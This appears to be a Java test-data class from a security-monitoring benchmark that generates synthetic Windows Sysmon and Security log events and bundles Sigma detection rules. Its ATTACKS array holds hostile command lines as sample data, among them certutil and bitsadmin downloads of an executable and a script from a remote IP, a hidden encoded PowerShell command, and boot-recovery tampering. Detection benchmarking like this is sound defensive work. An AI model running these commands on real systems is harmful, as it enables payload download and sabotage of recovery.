package io.socswarm.agents;

import io.socswarm.model.SecurityEvent;
import io.socswarm.model.SecurityEvent.Endpoint;
import io.socswarm.model.SecurityEvent.Host;
import io.socswarm.model.SecurityEvent.Origin;
import io.socswarm.model.SecurityEvent.User;
import io.socswarm.sigma.LogSource;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;

/**
 * Windows events as the readers write them (normalised fields plus every original field under
 * {@code orig.}), for {@link SigmaBenchmark}: a seeded mix of Sysmon (process creation, network
 * connections, file creation, registry values, image loads) and Security (4624, 4625, 4688) events,
 * almost all benign, with one attack-like process creation in every {@value #ATTACK_EVERY}. Also
 * the Sigma rules the benchmark uses when it does not find SigmaHQ's (the shared folder).
 */
final class SigmaSamples {
    static final int SIZE = 1024;
    static final int ATTACK_EVERY = 64;
    static final String SYSMON = "Microsoft-Windows-Sysmon/Operational";
    static final String SECURITY = "Security";
    private static final Instant START = Instant.parse("2026-03-02T08:00:00Z");

    private static final String[] HOSTS = {"WS0142.corp.local", "WS0177.corp.local", "WS0203.corp.local",
            "LAPTOP-7H2K.corp.local", "SRV-FILE01.corp.local", "SRV-APP02.corp.local"};
    private static final String[] USERS = {"CORP\\alice", "CORP\\bob", "CORP\\carol", "CORP\\dave",
            "NT AUTHORITY\\SYSTEM", "NT AUTHORITY\\NETWORK SERVICE"};

    /** Benign process creations: image, command line, parent image, original file name, description. */
    private static final String[][] BENIGN_PROCESSES = {
            {"C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
                    "C:\\Windows\\System32\\services.exe", "svchost.exe", "Host Process for Windows Services"},
            {"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
                    "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US --renderer-client-id=7",
                    "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "chrome.exe", "Google Chrome"},
            {"C:\\Windows\\System32\\conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
                    "C:\\Windows\\System32\\cmd.exe", "CONHOST.EXE", "Console Window Host"},
            {"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
                    "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" /recycle",
                    "C:\\Windows\\explorer.exe", "Outlook.exe", "Microsoft Outlook"},
            {"C:\\Windows\\System32\\RuntimeBroker.exe", "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding",
                    "C:\\Windows\\System32\\svchost.exe", "RuntimeBroker.exe", "Runtime Broker"},
            {"C:\\Program Files\\Git\\cmd\\git.exe", "git status --porcelain",
                    "C:\\Program Files\\Microsoft VS Code\\Code.exe", "git.exe", "Git for Windows"},
            {"C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe Install $(Arg0)",
                    "C:\\Windows\\System32\\svchost.exe", "taskhostw.exe", "Host Process for Windows Tasks"},
            {"C:\\Program Files\\Microsoft VS Code\\Code.exe",
                    "\"C:\\Program Files\\Microsoft VS Code\\Code.exe\" --type=utility --utility-sub-type=node.mojom.NodeService",
                    "C:\\Program Files\\Microsoft VS Code\\Code.exe", "electron.exe", "Visual Studio Code"},
            {"C:\\Windows\\System32\\SearchProtocolHost.exe",
                    "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe5_ Global\\UsGthrCtrlFltPipeMssGthrPipe5 1",
                    "C:\\Windows\\System32\\SearchIndexer.exe", "SearchProtocolHost.exe", "Microsoft Windows Search Protocol Host"},
            {"C:\\Program Files\\WindowsApps\\Microsoft.Teams\\ms-teams.exe", "\"ms-teams.exe\" --system-initiated",
                    "C:\\Windows\\explorer.exe", "ms-teams.exe", "Microsoft Teams"},
            {"C:\\Windows\\System32\\backgroundTaskHost.exe",
                    "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:BackgroundTaskHost.WebAccountBackgroundTask",
                    "C:\\Windows\\System32\\svchost.exe", "backgroundTaskHost.exe", "Background Task Host"},
            {"C:\\Program Files\\Mozilla Firefox\\firefox.exe",
                    "\"C:\\Program Files\\Mozilla Firefox\\firefox.exe\" -contentproc -childID 4 -isForBrowser tab",
                    "C:\\Program Files\\Mozilla Firefox\\firefox.exe", "firefox.exe", "Firefox"},
    };

    /**
     * Attack-like process creations (image, command line, parent image, original file name): an
     * encoded PowerShell command (the {@code one} rule), certutil and bitsadmin downloads, boot
     * recovery tampering, hidden files and cmdkey reconnaissance (SigmaHQ rules among the first 100).
     */
    private static final String[][] ATTACKS = {
            {"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                    "powershell.exe -NoP -W Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
                    "C:\\Windows\\System32\\cmd.exe", "PowerShell.EXE"},
            {"C:\\Windows\\System32\\certutil.exe",
                    "certutil.exe -urlcache -split -f http://198.51.100.23/a.png C:\\Users\\Public\\a.exe",
                    "C:\\Windows\\System32\\cmd.exe", "CertUtil.exe"},
            {"C:\\Windows\\System32\\bitsadmin.exe",
                    "bitsadmin /transfer job /download /priority high http://198.51.100.23/p.ps1 C:\\Users\\Public\\p.ps1",
                    "C:\\Windows\\System32\\cmd.exe", "bitsadmin.exe"},
            {"C:\\Windows\\System32\\bcdedit.exe", "bcdedit.exe /set {default} recoveryenabled No",
                    "C:\\Windows\\System32\\cmd.exe", "bcdedit.exe"},
            {"C:\\Windows\\System32\\attrib.exe", "attrib.exe +h +s C:\\Users\\Public\\svc.exe",
                    "C:\\Windows\\System32\\cmd.exe", "ATTRIB.EXE"},
            {"C:\\Windows\\System32\\cmdkey.exe", "cmdkey /list", "C:\\Windows\\System32\\cmd.exe", "cmdkey.exe"},
    };

    private static final String[][] CONNECTIONS = {
            {"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "142.250.74.110", "443", "www.google.com"},
            {"C:\\Windows\\System32\\svchost.exe", "20.190.159.2", "443", "login.microsoftonline.com"},
            {"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "52.97.146.162", "443", "outlook.office365.com"},
            {"C:\\Windows\\System32\\svchost.exe", "10.0.0.10", "53", "dc1.corp.local"},
            {"C:\\Program Files\\Git\\mingw64\\bin\\git-remote-https.exe", "140.82.121.4", "443", "github.com"},
    };

    private static final String[][] FILES = {
            {"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "C:\\Users\\%s\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\Cache_Data\\f_0%d"},
            {"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "C:\\Users\\%s\\AppData\\Local\\Microsoft\\Outlook\\RoamCache\\Stream_Autocomplete_%d.dat"},
            {"C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\Prefetch\\SVCHOST.EXE-%d.pf"},
            {"C:\\Program Files\\Microsoft VS Code\\Code.exe", "C:\\Users\\%s\\source\\repos\\app\\build\\out-%d.log"},
    };

    private static final String[][] REGISTRY = {
            {"C:\\Windows\\explorer.exe", "HKU\\S-1-5-21-1004\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\MRUListEx", "Binary Data"},
            {"C:\\Windows\\System32\\svchost.exe", "HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\S-1-5-21-1004\\Device\\HarddiskVolume3\\Windows\\System32\\cmd.exe", "Binary Data"},
            {"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "HKU\\S-1-5-21-1004\\Software\\Google\\Chrome\\BLBeacon\\state", "DWORD (0x00000001)"},
    };

    private static final String[][] IMAGE_LOADS = {
            {"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "C:\\Windows\\System32\\kernelbase.dll", "Microsoft Windows"},
            {"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "C:\\Windows\\System32\\ws2_32.dll", "Microsoft Windows"},
            {"C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\combase.dll", "Microsoft Windows"},
    };

    private static int ids;

    private SigmaSamples() {
    }

    /** {@value #SIZE} events a second apart, seeded: the same mix every run. */
    static List<SecurityEvent> events() {
        Random random = new Random(42L);
        List<SecurityEvent> events = new ArrayList<>(SIZE);
        int attacks = 0;
        for (int i = 0; i < SIZE; i++) {
            Instant t = START.plusMillis(i * 1_000L);
            String host = HOSTS[random.nextInt(HOSTS.length)];
            String user = USERS[random.nextInt(4)];
            if (i % ATTACK_EVERY == ATTACK_EVERY / 2) {
                String[] a = ATTACKS[attacks++ % ATTACKS.length];
                events.add(sysmonProcess(t, host, user, a[0], a[1], a[2], "cmd.exe", a[3], "", random));
                continue;
            }
            int kind = random.nextInt(100);
            if (kind < 34) {
                String[] p = BENIGN_PROCESSES[random.nextInt(BENIGN_PROCESSES.length)];
                String account = p[0].contains("svchost") || p[0].contains("taskhostw") ? USERS[4] : user;
                events.add(sysmonProcess(t, host, account, p[0], p[1], p[2], "", p[3], p[4], random));
            } else if (kind < 46) {
                String[] c = CONNECTIONS[random.nextInt(CONNECTIONS.length)];
                events.add(sysmonNetwork(t, host, user, c[0], c[1], c[2], c[3], random));
            } else if (kind < 56) {
                String[] f = FILES[random.nextInt(FILES.length)];
                String name = user.substring(user.indexOf('\\') + 1);
                String target = f[1].contains("%s") ? String.format(Locale.ROOT, f[1], name, random.nextInt(900))
                        : String.format(Locale.ROOT, f[1], random.nextInt(900));
                events.add(sysmonFile(t, host, user, f[0], target, random));
            } else if (kind < 62) {
                String[] r = REGISTRY[random.nextInt(REGISTRY.length)];
                events.add(sysmonRegistry(t, host, user, r[0], r[1], r[2], random));
            } else if (kind < 69) {
                String[] l = IMAGE_LOADS[random.nextInt(IMAGE_LOADS.length)];
                events.add(sysmonImageLoad(t, host, user, l[0], l[1], l[2], random));
            } else if (kind < 89) {
                events.add(logon(t, "4624", user, "10.0.1." + (10 + random.nextInt(200)), random.nextBoolean() ? "3" : "2", random));
            } else if (kind < 94) {
                events.add(logon(t, "4625", user, "10.0.1." + (10 + random.nextInt(200)), "3", random));
            } else {
                String[] p = BENIGN_PROCESSES[random.nextInt(BENIGN_PROCESSES.length)];
                events.add(securityProcess(t, host, user, p[0], p[1], p[2]));
            }
        }
        return events;
    }

    /**
     * The logsources the bundled field mapping gives these events (its table, for the engine alone):
     * a Sysmon 13 is both {@code registry_set} and {@code registry_event}.
     */
    static List<LogSource> logSources(SecurityEvent e) {
        String channel = e.attributes().get("orig.Channel");
        String id = e.attributes().get("orig.EventID");
        if (SYSMON.equals(channel)) {
            return switch (id) {
                case "1" -> List.of(LogSource.of("windows", "process_creation", "sysmon"));
                case "3" -> List.of(LogSource.of("windows", "network_connection", "sysmon"));
                case "7" -> List.of(LogSource.of("windows", "image_load", "sysmon"));
                case "11" -> List.of(LogSource.of("windows", "file_event", "sysmon"));
                case "13" -> List.of(LogSource.of("windows", "registry_set", "sysmon"),
                        LogSource.of("windows", "registry_event", "sysmon"));
                default -> List.of(LogSource.of("windows", null, "sysmon"));
            };
        }
        return List.of(LogSource.of("windows", "4688".equals(id) ? "process_creation" : null, "security"));
    }

    /**
     * The event as a plain map under Sigma's field names (the original fields without {@code orig.};
     * a Security 4688 also under the names Sysmon uses, as the mapping reads it).
     */
    static Map<String, Object> sigmaFields(SecurityEvent e) {
        Map<String, Object> fields = new HashMap<>();
        e.attributes().forEach((k, v) -> {
            if (k.startsWith("orig.")) {
                fields.put(k.substring("orig.".length()), v);
            }
        });
        if ("4688".equals(fields.get("EventID"))) {
            fields.put("Image", fields.get("NewProcessName"));
            fields.put("ParentImage", fields.get("ParentProcessName"));
            fields.put("User", fields.get("SubjectUserName"));
        }
        return fields;
    }

    private static Map<String, String> windows(String channel, String eventId, String host, Random random) {
        Map<String, String> a = new LinkedHashMap<>();
        a.put("event.code", eventId);
        a.put("event.provider", channel);
        a.put("orig.EventID", eventId);
        a.put("orig.Channel", channel);
        a.put("orig.Computer", host);
        a.put("orig.Provider_Name", SYSMON.equals(channel) ? "Microsoft-Windows-Sysmon" : "Microsoft-Windows-Security-Auditing");
        a.put("orig.EventRecordID", Integer.toString(100_000 + random.nextInt(900_000)));
        a.put("orig.Level", "4");
        a.put("orig.Task", SYSMON.equals(channel) ? eventId : "12544");
        return a;
    }

    private static void sysmonCommon(Map<String, String> a, Instant t, String user, String image, Random random) {
        a.put("orig.RuleName", "-");
        a.put("orig.UtcTime", t.toString().replace('T', ' ').replace("Z", ""));
        a.put("orig.ProcessGuid", guid(random));
        a.put("orig.ProcessId", Integer.toString(1_000 + random.nextInt(30_000)));
        a.put("orig.Image", image);
        a.put("orig.User", user);
        a.put("process.executable", image);
    }

    static SecurityEvent sysmonProcess(Instant t, String host, String user, String image, String commandLine,
            String parentImage, String parentCommandLine, String originalFileName, String description, Random random) {
        Map<String, String> a = windows(SYSMON, "1", host, random);
        sysmonCommon(a, t, user, image, random);
        a.put("orig.FileVersion", "10.0.22621.1 (WinBuild.160101.0800)");
        a.put("orig.Description", description);
        a.put("orig.Product", "Microsoft® Windows® Operating System");
        a.put("orig.Company", "Microsoft Corporation");
        a.put("orig.OriginalFileName", originalFileName);
        a.put("orig.CommandLine", commandLine);
        a.put("orig.CurrentDirectory", "C:\\Windows\\system32\\");
        a.put("orig.LogonGuid", guid(random));
        a.put("orig.LogonId", "0x" + Integer.toHexString(0x10000 + random.nextInt(0xfffff)));
        a.put("orig.TerminalSessionId", "1");
        a.put("orig.IntegrityLevel", user.startsWith("NT AUTHORITY") ? "System" : "Medium");
        a.put("orig.Hashes", "SHA256=" + hex(random, 64) + ",IMPHASH=" + hex(random, 32).toUpperCase(Locale.ROOT));
        a.put("orig.ParentProcessGuid", guid(random));
        a.put("orig.ParentProcessId", Integer.toString(500 + random.nextInt(20_000)));
        a.put("orig.ParentImage", parentImage);
        a.put("orig.ParentCommandLine", parentCommandLine.isEmpty() ? "\"" + parentImage + "\"" : parentCommandLine);
        a.put("orig.ParentUser", user);
        a.put("process.command_line", commandLine);
        a.put("process.parent.executable", parentImage);
        return event(t, "process", "process_created", "success", null, null, user, host, "sysmon.json", a);
    }

    static SecurityEvent sysmonNetwork(Instant t, String host, String user, String image, String ip, String port,
            String hostname, Random random) {
        Map<String, String> a = windows(SYSMON, "3", host, random);
        sysmonCommon(a, t, user, image, random);
        String sourceIp = "10.0.1." + (10 + random.nextInt(200));
        String sourcePort = Integer.toString(49_152 + random.nextInt(16_000));
        a.put("orig.Protocol", "tcp");
        a.put("orig.Initiated", "true");
        a.put("orig.SourceIsIpv6", "false");
        a.put("orig.SourceIp", sourceIp);
        a.put("orig.SourceHostname", host);
        a.put("orig.SourcePort", sourcePort);
        a.put("orig.DestinationIsIpv6", "false");
        a.put("orig.DestinationIp", ip);
        a.put("orig.DestinationHostname", hostname);
        a.put("orig.DestinationPort", port);
        return event(t, "network", "connection", "success", Endpoint.of(sourceIp, Integer.parseInt(sourcePort)),
                Endpoint.of(ip, Integer.parseInt(port)), user, host, "sysmon.json", a);
    }

    static SecurityEvent sysmonFile(Instant t, String host, String user, String image, String target, Random random) {
        Map<String, String> a = windows(SYSMON, "11", host, random);
        sysmonCommon(a, t, user, image, random);
        a.put("orig.TargetFilename", target);
        a.put("orig.CreationUtcTime", a.get("orig.UtcTime"));
        return event(t, "file", "file_created", "success", null, null, user, host, "sysmon.json", a);
    }

    static SecurityEvent sysmonRegistry(Instant t, String host, String user, String image, String key, String details,
            Random random) {
        Map<String, String> a = windows(SYSMON, "13", host, random);
        sysmonCommon(a, t, user, image, random);
        a.put("orig.EventType", "SetValue");
        a.put("orig.TargetObject", key);
        a.put("orig.Details", details);
        return event(t, "registry", "registry_value_set", "success", null, null, user, host, "sysmon.json", a);
    }

    static SecurityEvent sysmonImageLoad(Instant t, String host, String user, String image, String loaded,
            String signature, Random random) {
        Map<String, String> a = windows(SYSMON, "7", host, random);
        sysmonCommon(a, t, user, image, random);
        a.put("orig.ImageLoaded", loaded);
        a.put("orig.FileVersion", "10.0.22621.1 (WinBuild.160101.0800)");
        a.put("orig.Description", "Windows library");
        a.put("orig.Product", "Microsoft® Windows® Operating System");
        a.put("orig.Company", "Microsoft Corporation");
        a.put("orig.OriginalFileName", loaded.substring(loaded.lastIndexOf('\\') + 1));
        a.put("orig.Hashes", "SHA256=" + hex(random, 64));
        a.put("orig.Signed", "true");
        a.put("orig.Signature", signature);
        a.put("orig.SignatureStatus", "Valid");
        return event(t, "process", "image_loaded", "success", null, null, user, host, "sysmon.json", a);
    }

    /** A Security 4624 (logon) or 4625 (failed logon) on the domain controller. */
    static SecurityEvent logon(Instant t, String eventId, String user, String ip, String logonType, Random random) {
        String dc = "DC1.corp.local";
        Map<String, String> a = windows(SECURITY, eventId, dc, random);
        String name = user.substring(user.indexOf('\\') + 1);
        a.put("winlog.logon.type", logonType);
        a.put("orig.SubjectUserSid", "S-1-5-18");
        a.put("orig.SubjectUserName", "DC1$");
        a.put("orig.SubjectDomainName", "CORP");
        a.put("orig.SubjectLogonId", "0x3e7");
        a.put("orig.TargetUserSid", "S-1-5-21-3623811015-3361044348-30300820-" + (1_000 + random.nextInt(200)));
        a.put("orig.TargetUserName", name);
        a.put("orig.TargetDomainName", "CORP");
        a.put("orig.LogonType", logonType);
        a.put("orig.LogonProcessName", "NtLmSsp ");
        a.put("orig.AuthenticationPackageName", "NTLM");
        a.put("orig.WorkstationName", "WS0" + (100 + random.nextInt(200)));
        a.put("orig.ProcessName", "-");
        a.put("orig.IpAddress", ip);
        a.put("orig.IpPort", Integer.toString(49_152 + random.nextInt(16_000)));
        boolean failed = "4625".equals(eventId);
        if (failed) {
            a.put("orig.Status", "0xc000006d");
            a.put("orig.SubStatus", "0xc000006a");
            a.put("orig.FailureReason", "%%2313");
        } else {
            a.put("orig.TargetLogonId", "0x" + Integer.toHexString(0x100000 + random.nextInt(0xfffff)));
            a.put("orig.LmPackageName", "NTLM V2");
            a.put("orig.KeyLength", "128");
            a.put("orig.ElevatedToken", "%%1843");
        }
        return new SecurityEvent(id(), t, "authentication", "logon", failed ? "failure" : "success", Endpoint.ip(ip),
                null, new User(name, "CORP"), new Host(dc), null, null, new Origin("windows", "security.json", 1L),
                Map.of(), a);
    }

    /** A Security 4688 (process creation with command-line auditing). */
    static SecurityEvent securityProcess(Instant t, String host, String user, String image, String commandLine,
            String parentImage) {
        Map<String, String> a = windows(SECURITY, "4688", host, new Random(t.toEpochMilli()));
        String name = user.substring(user.indexOf('\\') + 1);
        a.put("orig.SubjectUserSid", "S-1-5-21-3623811015-3361044348-30300820-1104");
        a.put("orig.SubjectUserName", name);
        a.put("orig.SubjectDomainName", "CORP");
        a.put("orig.SubjectLogonId", "0x3e7");
        a.put("orig.NewProcessId", "0x1a2c");
        a.put("orig.NewProcessName", image);
        a.put("orig.TokenElevationType", "%%1938");
        a.put("orig.ProcessId", "0x2b8");
        a.put("orig.CommandLine", commandLine);
        a.put("orig.ParentProcessName", parentImage);
        a.put("orig.MandatoryLabel", "S-1-16-8192");
        a.put("process.executable", image);
        a.put("process.command_line", commandLine);
        return event(t, "process", "process_created", "success", null, null, user, host, "security.json", a);
    }

    private static SecurityEvent event(Instant t, String category, String action, String outcome, Endpoint source,
            Endpoint destination, String user, String host, String file, Map<String, String> attributes) {
        int slash = user.indexOf('\\');
        return new SecurityEvent(id(), t, category, action, outcome, source, destination,
                new User(user.substring(slash + 1), user.substring(0, Math.max(0, slash))), new Host(host), null, null,
                new Origin("windows", file, 1L), Map.of(), attributes);
    }

    private static String guid(Random random) {
        String h = hex(random, 32);
        return "{" + h.substring(0, 8) + "-" + h.substring(8, 12) + "-" + h.substring(12, 16) + "-" + h.substring(16, 20)
                + "-" + h.substring(20) + "}";
    }

    private static String hex(Random random, int digits) {
        StringBuilder b = new StringBuilder(digits);
        for (int i = 0; i < digits; i++) {
            b.append(Character.forDigit(random.nextInt(16), 16));
        }
        return b.toString();
    }

    private static String id() {
        return "win-" + (++ids);
    }

    // ------------------------------------------------------------------------------------------
    // Rules

    /** The {@code one} rule: an encoded PowerShell command line, a typical single-rule deployment. */
    static final String ONE_RULE = """
            title: Encoded PowerShell Command Line
            id: 5f0d7a3c-6a43-4c1b-9d0e-1b8f0a6c2e11
            status: test
            description: PowerShell started with an encoded command, as droppers do.
            author: SOC Swarm benchmarks
            logsource:
              category: process_creation
              product: windows
            detection:
              selection_img:
                - Image|endswith:
                    - '\\powershell.exe'
                    - '\\pwsh.exe'
                - OriginalFileName:
                    - 'PowerShell.EXE'
                    - 'pwsh.dll'
              selection_enc:
                CommandLine|contains:
                  - ' -e '
                  - ' -en '
                  - ' -enc '
                  - ' -EncodedCommand '
                  - ' -ec '
              condition: all of selection_*
            level: high
            """;

    /**
     * {@code n} distinct Windows process_creation rules with varied modifiers (endswith, contains,
     * contains|all, startswith, re, windash, lists, filters), one document each; used when
     * SigmaHQ's rules are not found. They name LOLBins the benign mix never starts, so that benign
     * events match none, as with most rules in practice.
     */
    static List<String> syntheticRules(int n) {
        String[] tools = {"certutil", "bitsadmin", "bcdedit", "attrib", "cmdkey", "regsvr32", "rundll32", "mshta",
                "wmic", "vssadmin", "schtasks", "msiexec", "cscript", "wscript", "installutil", "regasm", "odbcconf",
                "forfiles", "pcalua", "hh"};
        String[] flags = {"urlcache", "transfer", "recoveryenabled", "+h", "/list", "scrobj", "comsvcs", "javascript",
                "shadowcopy", "delete", "/create", "/quiet", "//e:", "/u", "/logfile=", "/s", "-c", "-a", "launch", "http"};
        List<String> rules = new ArrayList<>(n);
        for (int i = 0; i < n; i++) {
            String tool = tools[i % tools.length];
            String flag = flags[(i * 7) % flags.length];
            int variant = i / tools.length;
            String detection = switch (variant % 5) {
                case 0 -> """
                          selection_img:
                            - Image|endswith: '\\%1$s.exe'
                            - OriginalFileName: '%1$s.exe'
                          selection_cli:
                            CommandLine|contains: '%2$s'
                          condition: all of selection_*
                        """.formatted(tool, flag);
                case 1 -> """
                          selection:
                            Image|endswith: '\\%1$s.exe'
                            CommandLine|contains|all:
                              - '%2$s'
                              - 'http'
                          filter:
                            ParentImage|startswith: 'C:\\Program Files\\'
                          condition: selection and not filter
                        """.formatted(tool, flag);
                case 2 -> """
                          selection_parent:
                            ParentImage|endswith:
                              - '\\winword.exe'
                              - '\\excel.exe'
                              - '\\powerpnt.exe'
                          selection_child:
                            Image|endswith: '\\%1$s.exe'
                          condition: all of selection_*
                        """.formatted(tool);
                case 3 -> """
                          selection:
                            Image|endswith: '\\%1$s.exe'
                            CommandLine|re: '(?i)%2$s\\s+\\S+\\.(dll|sct|hta)'
                          condition: selection
                        """.formatted(tool, java.util.regex.Pattern.quote(flag).replace("'", "''"));
                default -> """
                          selection:
                            Image|endswith: '\\%1$s.exe'
                            CommandLine|windash|contains: ' -%3$s '
                          selection_user:
                            User|contains:
                              - 'AUTHORI'
                              - 'AUTORI'
                          condition: selection and selection_user
                        """.formatted(tool, flag, flag.replaceAll("[^a-z]", "").isEmpty() ? "x" : flag.replaceAll("[^a-z]", ""));
            };
            rules.add("""
                    title: Synthetic %1$s rule %2$d
                    id: 00000000-0000-4000-8000-%3$012d
                    status: test
                    author: SOC Swarm benchmarks
                    logsource:
                      category: process_creation
                      product: windows
                    detection:
                    %4$slevel: %5$s
                    """.formatted(tool, i, i, detection, i % 3 == 0 ? "high" : "medium"));
        }
        return rules;
    }

    /** Writes rules as files {@code rule-NNN.yml} of a new temporary directory. */
    static Path writeRules(List<String> rules) throws java.io.IOException {
        Path dir = Files.createTempDirectory("soc-swarm-jmh-sigma");
        for (int i = 0; i < rules.size(); i++) {
            Files.writeString(dir.resolve(String.format(Locale.ROOT, "rule-%03d.yml", i)), rules.get(i));
        }
        dir.toFile().deleteOnExit();
        return dir;
    }
}
